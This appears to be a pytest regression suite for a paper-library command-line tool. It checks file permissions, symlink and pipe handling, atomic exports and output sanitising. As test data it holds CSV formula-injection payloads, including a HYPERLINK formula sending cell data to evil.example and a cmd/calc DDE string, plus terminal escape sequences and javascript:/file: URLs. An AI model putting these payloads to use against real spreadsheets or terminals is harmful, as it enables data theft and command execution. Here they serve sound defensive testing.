"""Regressions from the second adversarial pass: hostile text stays inert, faults lose nothing."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from tui.cli import main


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def entry(title: str, authors: str, abstract: str = "An abstract.", day: int = 19) -> str:
    return f"CLOct {day}, 2022Code\n{title}\n\n{authors}\n\n{abstract}\n\n"


@pytest.mark.parametrize("fmt", ["bibtex", "csl", "markdown", "json", "csv", "notes"])
def test_authors_whose_last_word_has_no_letters_export_everywhere(tmp_path: Path, fmt: str) -> None:
    dump = tmp_path / "dump.txt"
    dump.write_text(
        entry("Dotted Author Paper", "Anna ., Bob Smith")
        + entry("Dagger Author Paper", "Anna Berg †, Carl Doe", day=20)
        + entry("Only Symbols Paper", "† ‡, Carl Doe", day=21),
        encoding="utf-8",
    )
    assert run("import", str(dump))[0] == 0
    for paper_id in ("1", "2", "3"):
        run("note", paper_id, "--set", "a note")
    out = tmp_path / "out"
    code, _text, err = run("export", "--format", fmt, "-o", str(out))
    assert code == 0, err
    written = " ".join(p.name for p in out.iterdir()) if out.is_dir() else out.read_text(encoding="utf-8")
    if fmt in ("bibtex", "csl", "notes"):
        for key in ("anna2022dotted", "berg2022dagger", "anon2022only"):
            assert key in written


def test_a_new_library_and_its_folder_are_private(tmp_path: Path) -> None:
    db = tmp_path / "fresh" / "deeper" / "library.db"
    dump = tmp_path / "dump.txt"
    dump.write_text(entry("Private Paper", "Anna Berg"), encoding="utf-8")
    assert run("--db", str(db), "import", str(dump))[0] == 0
    assert db.stat().st_mode & 0o777 == 0o600
    assert db.parent.stat().st_mode & 0o777 == 0o700
    assert (tmp_path / "fresh").stat().st_mode & 0o777 == 0o700
    for sidecar in db.parent.iterdir():
        assert sidecar.stat().st_mode & 0o077 == 0, sidecar


def _library_with_changes_only_in_its_wal(tmp_path: Path) -> Path:
    """A copy of a library taken while a writer still held changes in the WAL, as on a backup disk."""
    import shutil
    import sqlite3

    dump = tmp_path / "dump.txt"
    dump.write_text(entry("Checkpointed Paper", "Anna Berg"), encoding="utf-8")
    live = tmp_path / "live" / "library.db"
    assert run("--db", str(live), "import", str(dump))[0] == 0
    writer = sqlite3.connect(live)
    writer.execute("PRAGMA wal_autocheckpoint = 0")
    writer.execute("UPDATE papers SET note = 'only in the WAL'")
    writer.commit()
    copy = tmp_path / "copy"
    copy.mkdir()
    for name in ("library.db", "library.db-wal"):
        shutil.copyfile(live.with_name(name), copy / name)
    writer.close()
    assert (copy / "library.db-wal").stat().st_size > 0
    return copy / "library.db"


@pytest.mark.parametrize("shared_memory_works", [True, False])
def test_a_read_only_library_shows_changes_still_in_its_wal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, shared_memory_works: bool
) -> None:
    import os
    import sqlite3

    db = _library_with_changes_only_in_its_wal(tmp_path)
    before = db.read_bytes()
    real_access, real_connect = os.access, sqlite3.connect

    def connect(target: object, *args: object, **kwargs: object) -> sqlite3.Connection:
        if not shared_memory_works and str(target).endswith("?mode=ro") and str(db.parent) in str(target):
            target = "file:/nonexistent/dir/x.db?mode=ro"  # what a read-only disk without -shm gives
        return real_connect(target, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "access", lambda path, mode: False if mode == os.W_OK else real_access(path, mode))
    monkeypatch.setattr(sqlite3, "connect", connect)
    code, out, err = run("--db", str(db), "note", "1")
    assert code == 0, err
    assert out == "only in the WAL\n"
    assert db.read_bytes() == before


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    import csv

    dump = tmp_path / "dump.txt"
    dump.write_text(entry('=HYPERLINK("http://evil.example/?"&A1,"x")', "@Anna Berg, -Carl Doe"), encoding="utf-8")
    assert run("import", str(dump))[0] == 0
    run("tag", "1", "+=cmd|' /C calc'!A0")
    run("note", "1", "--set", "+1 and\tmore")
    code, out, _ = run("export", "--format", "csv")
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    for name, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    assert row["title"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert row["authors"] == "'@Anna Berg; -Carl Doe"
    assert row["score"] == "" and row["id"] == "1"


def _one_annotated_paper(tmp_path: Path, title: str = "Symlink Target Paper") -> None:
    dump = tmp_path / "dump.txt"
    dump.write_text(entry(title, "Anna Berg"), encoding="utf-8")
    assert run("import", str(dump))[0] == 0
    assert run("note", "1", "--set", "my note")[0] == 0


def test_the_notes_export_never_writes_through_a_symlink(tmp_path: Path) -> None:
    _one_annotated_paper(tmp_path)
    secret = tmp_path / "bashrc"
    secret.write_text("precious\n")
    vault = tmp_path / "vault"
    vault.mkdir()
    (vault / "berg2022symlink.md").symlink_to(secret)
    code, _, err = run("export", "--format", "notes", "-o", str(vault))
    assert code == 0
    assert "skipped berg2022symlink.md: is a symbolic link" in err
    assert secret.read_text() == "precious\n" and (vault / "berg2022symlink.md").is_symlink()


def test_a_fifo_in_the_notes_folder_is_skipped_not_waited_on(tmp_path: Path) -> None:
    import os

    _one_annotated_paper(tmp_path)
    vault = tmp_path / "vault"
    vault.mkdir()
    os.mkfifo(vault / "berg2022symlink.md")
    code, _, err = run("export", "--format", "notes", "-o", str(vault))
    assert code == 0 and "skipped berg2022symlink.md: not a regular file" in err


def test_a_306_character_title_word_gives_a_short_file_name(tmp_path: Path) -> None:
    _one_annotated_paper(tmp_path, title="Pneumono" + "x" * 298 + " Studies")
    vault = tmp_path / "vault"
    assert run("export", "--format", "notes", "-o", str(vault))[0] == 0
    (name,) = [p.name for p in vault.glob("*.md")]
    assert len(name.encode()) <= 64 and name.startswith("berg2022pneumono")


def test_a_failed_export_leaves_the_old_file_whole_and_no_temp_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import store.library

    _one_annotated_paper(tmp_path)
    target = tmp_path / "refs.bib"
    target.write_text("the old export\n")
    target.chmod(0o640)
    real_export = store.library.Library.export

    def dies_midway(self: object, fmt: str, ids: object, **options: object) -> object:
        yield from real_export(self, fmt, ids, **options)  # type: ignore[arg-type]
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr(store.library.Library, "export", dies_midway)
        code, _, err = run("export", "--format", "bibtex", "-o", str(target))
    assert code == 1 and "refs.bib: cannot write: No space left on device" in err
    assert target.read_text() == "the old export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".refs")] == []
    assert run("export", "--format", "bibtex", "-o", str(target))[0] == 0
    assert target.read_text().startswith("@misc{berg2022symlink,")
    assert target.stat().st_mode & 0o777 == 0o640  # the file keeps the permissions it had


def test_an_export_to_a_symlink_the_user_made_updates_its_target(tmp_path: Path) -> None:
    _one_annotated_paper(tmp_path)
    real = tmp_path / "dotfiles" / "refs.bib"
    real.parent.mkdir()
    real.write_text("old\n")
    link = tmp_path / "refs.bib"
    link.symlink_to(real)
    assert run("export", "--format", "bibtex", "-o", str(link))[0] == 0
    assert link.is_symlink() and real.read_text().startswith("@misc{")


@pytest.mark.parametrize("special", ["/dev/zero", "fifo"])
def test_devices_and_pipes_are_refused_before_any_read(tmp_path: Path, special: str) -> None:
    import os

    if special == "fifo":
        special = str(tmp_path / "pipe.txt")
        os.mkfifo(special)  # nobody writes: a blocking open or read would never return
    code, out, err = run("import", special)
    assert code == 2 and "rejected, nothing imported" in out
    assert "not a regular file (a device, pipe or socket)" in err


def test_a_file_that_grows_past_the_limit_while_read_is_cut_off(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import store.files
    import store.library

    dump = tmp_path / "dump.txt"
    dump.write_text(entry("A Paper", "Anna Berg") * 50, encoding="utf-8")
    monkeypatch.setattr(store.library, "MAX_IMPORT_BYTES", 1000)
    real_fstat = store.files.os.fstat

    def claims_to_be_small(fd: int) -> object:
        info = real_fstat(fd)
        return type("Info", (), {"st_mode": info.st_mode, "st_size": 10})()

    monkeypatch.setattr(store.files.os, "fstat", claims_to_be_small)
    code, _, err = run("import", str(dump))
    assert code == 2 and "grew past the size limit while being read (limit 0 MiB)" in err


def test_absurd_header_numbers_are_warned_about_not_a_crash(tmp_path: Path) -> None:
    dump = tmp_path / "dump.txt"
    dump.write_text("h-index" + "9" * 5000 + "\n" + "9" * 400 + "papers\n\n" + entry("A Paper", "Anna Berg"))
    code, out, err = run("import", str(dump))
    assert code == 0 and "1 added" in out
    assert "dump.txt:1: warning: h index has 5000 digits; ignored" in err
    assert "dump.txt:2: warning: papers has 400 digits; ignored" in err


def test_a_dump_that_quotes_a_bibtex_entry_is_still_a_dump(tmp_path: Path) -> None:
    dump = tmp_path / "dump.txt"
    quoting = "We cite it as\n@article{smith2020, title = {Quoted}}\nand move on."
    dump.write_text(entry("Citing Properly", "Anna Berg", quoting) + entry("Second Paper", "Carl Doe", day=20))
    code, out, err = run("import", str(dump))
    assert code == 0 and "2 added" in out, err
    assert "@article{smith2020" in run("show", "1")[1] + run("show", "2")[1]


def _editor(tmp_path: Path, body: str) -> str:
    script = tmp_path / "editor.sh"
    script.write_text("#!/bin/sh\n" + body + "\n")
    script.chmod(0o755)
    return str(script)


def _kept_files(text: str) -> list[Path]:
    import re

    return [Path(p) for p in re.findall(r"(/\S+papershelf-note-\S+\.md)", text)]


@pytest.mark.parametrize(
    ("body", "message", "kept"),
    [
        ("printf 'caf\\351 typed' > \"$1\"", "not UTF-8 text", b"caf\xe9 typed"),
        ("printf 'typed then quit' > \"$1\"; exit 3", "exited with status 3", b"typed then quit"),
        ('rm "$1"', "the editor removed", None),
    ],
)
def test_an_editor_that_misbehaves_never_deletes_typed_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, body: str, message: str, kept: bytes | None
) -> None:
    _one_annotated_paper(tmp_path)
    monkeypatch.setenv("EDITOR", _editor(tmp_path, body))
    code, _, err = run("note", "1", "--edit")
    assert code == 1 and message in err and "the note was not changed" in err
    assert run("note", "1")[1] == "my note\n"
    if kept is not None:
        (path,) = _kept_files(err)
        assert path.read_bytes() == kept
        path.unlink()


def test_an_unbalanced_quote_in_editor_is_an_error_not_a_crash(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _one_annotated_paper(tmp_path)
    monkeypatch.setenv("EDITOR", "vim '-c set ft=markdown")
    code, _, err = run("note", "1", "--edit")
    assert code == 1 and "cannot read the editor command" in err and "No closing quotation" in err


def test_a_note_save_waits_out_a_long_lock_and_keeps_the_text_if_it_never_ends(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sqlite3
    import threading

    import store.library
    import store.library_file

    _one_annotated_paper(tmp_path)
    db = tmp_path / "library.db"
    monkeypatch.setattr(store.library_file, "_BUSY_TIMEOUT_S", 0.2)  # SQLite's own wait, shortened for the test
    monkeypatch.setattr(store.library, "NOTE_PATIENCE_S", 30.0)
    locker = sqlite3.connect(db, check_same_thread=False)
    locker.execute("BEGIN IMMEDIATE")  # a long import holds the write lock
    released = threading.Timer(1.0, locker.rollback)
    released.start()
    code, _, err = run("note", "1", "--set", "typed during the import")
    released.join()
    assert code == 0, err
    assert run("note", "1")[1] == "typed during the import\n"

    monkeypatch.setattr(store.library, "NOTE_PATIENCE_S", 0.5)
    locker.execute("BEGIN IMMEDIATE")  # and now one that never lets go
    with store.library.Library.open(db) as library:
        with pytest.raises(store.library_file.LibraryBusy):
            library.set_note(1, "typed while locked out")
        rescued = library.rescue_note(1, "typed while locked out")
    locker.rollback()
    assert rescued.parent == tmp_path and rescued.read_text() == "typed while locked out"


def test_a_huge_field_is_indexed_and_shown_only_in_part() -> None:
    import datetime as dt

    from rich.console import Console

    from store import Paper, ReadStatus
    from store.tokens import MAX_FIELD_CHARS, index_words
    from tui.widgets.paper_detail import DETAIL_CHARS, READER_CHARS, describe

    text = "early " * (MAX_FIELD_CHARS // 6) + "late " * 100_000
    assert "early" in index_words(text) and "late" not in index_words(text)
    paper = Paper(
        id=1, title="T" * 1_000_000, authors=tuple(f"Author {n}" for n in range(50_000)), authors_truncated=False,
        affiliations=(), category=None, date=None, date_has_year=False, score=None, has_code=False,
        abstract=text, links=tuple(f"https://example.org/{n}" for n in range(5_000)), code_urls=(),
        status=ReadStatus.UNREAD, status_changed_at=None, note="n" * 1_000_000, note_updated_at=None,
    )  # fmt: skip
    for limit in (DETAIL_CHARS, READER_CHARS):
        console = Console(width=100, record=True, file=io.StringIO())
        console.print(describe(paper, dt.datetime(2026, 12, 1, tzinfo=dt.UTC), limit=limit))
        shown = console.export_text()
        assert len(shown) < 4 * limit + 10_000
        assert "more characters (papershelf show prints them all)" in shown
        assert "4,980 more links" in shown


def test_search_highlights_only_the_rows_it_prints(monkeypatch: pytest.MonkeyPatch) -> None:
    import store.library

    demo = Path(store.library.__file__).parent / "demo"
    assert run("import", *map(str, sorted(demo.glob("*.txt"))))[0] == 0

    calls: list[int] = []
    real_hit = store.library.Library.hit

    def counted(self: store.library.Library, result: object, paper_id: int) -> object:
        calls.append(paper_id)
        return real_hit(self, result, paper_id)  # type: ignore[arg-type]

    monkeypatch.setattr(store.library.Library, "hit", counted)
    words = " ".join(["the"] * 500)
    code, out, err = run("search", words, "--limit", "3")
    assert code == 0 and len(out.splitlines()) == 3 and len(calls) == 3
    assert int(err.split()[0]) > 3  # far more matched than were highlighted


def test_no_cli_output_carries_a_control_code(tmp_path: Path) -> None:
    import re

    codes = "\x1b]2;PWNED\x07\x1b[2J\x9b7m\u202e\u2066\x08\r"
    dump = tmp_path / "dump.txt"
    dump.write_text(entry(f"Title {codes}", f"Anna {codes}Berg", f"Abstract {codes} https://x.org/a{codes}"))
    bib = tmp_path / "links.bib"
    bib.write_text(
        f"@article{{k, title = {{Linked}}, author = {{Berg, Anna}}, year = 2021, url = {{https://github.com/x/{codes}}}}}"
    )
    for source in (dump, bib):
        assert run("import", str(source))[0] == 0
    run("note", "1", "--set", f"note {codes}")
    run("note", "2", "--set", f"note {codes}")
    unsafe = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
    commands = [("show", "1"), ("show", "2"), ("list",), ("search", "title"), ("note", "1"), ("note", "1", "--history")]
    commands += [("export", "--format", fmt) for fmt in ("json", "csv", "markdown", "bibtex", "csl")]
    commands += [("show", "1", "--json"), ("list", "--json"), ("stats",)]
    for argv in commands:
        code, out, err = run(*argv)
        assert code == 0, (argv, err)
        assert not unsafe.search(out.replace("\r\n", "\n")), (argv, unsafe.search(out))
        assert not unsafe.search(err), (argv, err)


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "file:///etc/passwd", "https://x.org/\x1b]2;t\x07", "https://x.org/a b", "ftp://x"]
)
def test_a_code_link_the_user_sets_must_be_a_web_address(library, url: str) -> None:
    from store import StoreError

    with pytest.raises(StoreError, match="is not a web address"):
        library.set_code_url(1, url)
    assert library.paper(1).code_url is None
    library.set_code_url(1, "https://github.com/a/b")
    assert library.paper(1).code_url == "https://github.com/a/b"


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["bibtex", "notes"])
def test_kill_9_during_an_export_leaves_the_old_file_whole(tmp_path: Path, fmt: str) -> None:
    import os
    import signal
    import subprocess
    import sys
    import time

    _one_annotated_paper(tmp_path)
    target = tmp_path / ("refs.bib" if fmt == "bibtex" else "vault")
    old = target / "berg2022symlink.md" if fmt == "notes" else target
    old.parent.mkdir(exist_ok=True)
    old.write_text("the old export, whole\n")
    if fmt == "notes":  # as papershelf wrote it, so the export will replace it
        import hashlib
        import json

        digest = hashlib.sha256(old.read_bytes()).hexdigest()
        (target / ".papershelf-notes.json").write_text(json.dumps({old.name: digest}))
    stalls = (  # the export writes its first bytes, then hangs: the moment a crash would do harm
        "import time, store.files, tui.cli\n"
        "def stall(fd):\n"
        "    time.sleep(3600)\n"
        "store.files.os.fsync = stall\n"
        f"tui.cli.main(['export', '--format', '{fmt}', '-o', {str(target)!r}])\n"
    )
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    child = subprocess.Popen([sys.executable, "-c", stalls], env=env)
    try:
        deadline = time.monotonic() + 30
        while not [p for p in old.parent.glob(".*.part") if p.stat().st_size]:
            assert time.monotonic() < deadline, "the export never started writing"
            time.sleep(0.05)
    finally:
        os.kill(child.pid, signal.SIGKILL)
        child.wait()
    assert old.read_text() == "the old export, whole\n"
